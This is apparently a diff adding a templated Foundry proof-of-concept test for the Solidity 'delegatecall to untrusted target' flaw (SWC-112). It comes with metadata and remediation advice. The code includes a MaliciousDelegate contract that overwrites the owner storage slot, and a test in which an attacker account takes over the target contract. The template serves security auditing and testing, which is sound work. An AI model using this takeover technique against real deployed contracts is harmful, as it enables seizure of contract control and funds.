@@ -0,0 +1,71 @@
+// ---
+// name: Delegatecall to Untrusted Target
+// description: Function delegatecalls an address the caller controls
+// vulnerability_type: delegatecall
+// class: untrusted-delegated-execution
+// chain: evm
+// severity: critical
+// cwe: [CWE-829]
+// swc: [SWC-112]
+// remediation: "Never delegatecall an address callers control; hard-code or allowlist
+//   implementation addresses and restrict who can change them."
+// tags: [delegatecall, proxy, storage-collision, foundry]
+// context:
+//   TARGET_CONTRACT: Contract under test
+//   DELEGATE_FUNCTION: Function that delegatecalls the caller-supplied address
+//   OWNER_SLOT: Storage slot of the target's owner variable
+// references:
+//   - https://swcregistry.io/docs/SWC-112
+// incidents: [parity-multisig-2017, parity-library-2017]
+// ---
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+import "forge-std/Test.sol";
+
+interface ITarget {
+    function {{DELEGATE_FUNCTION}}(address callee, bytes calldata data) external;
+    function owner() external view returns (address);
+}
+
+// Runs in the target's storage context when delegatecalled
+contract MaliciousDelegate {
+    function pwn(address newOwner) external {
+        uint256 slot = {{OWNER_SLOT=0}};
+        assembly {
+            sstore(slot, newOwner)
+        }
+    }
+}
+
+contract DelegatecallPoCTest is Test {
+    ITarget target;
+    MaliciousDelegate delegate;
+
+    address deployer = makeAddr("deployer");
+    address attackerEOA = makeAddr("attacker");
+
+    function setUp() public {
+        // Deploy target contract
+        // vm.prank(deployer);
+        // target = ITarget(address(new {{TARGET_CONTRACT}}()));
+
+        delegate = new MaliciousDelegate();
+    }
+
+    function testDelegatecallTakeover() public {
+        address ownerBefore = target.owner();
+        console.log("Owner before:", ownerBefore);
+
+        // Any caller hands the target code to run with its own storage
+        vm.prank(attackerEOA);
+        target.{{DELEGATE_FUNCTION}}(address(delegate), abi.encodeCall(MaliciousDelegate.pwn, (attackerEOA)));
+
+        address ownerAfter = target.owner();
+        console.log("Owner after:", ownerAfter);
+
+        // The attacker now owns the target
+        assertEq(ownerAfter, attackerEOA, "Delegatecall should overwrite the owner slot");
+        assertTrue(ownerAfter != ownerBefore, "Owner should have changed");
+    }
+}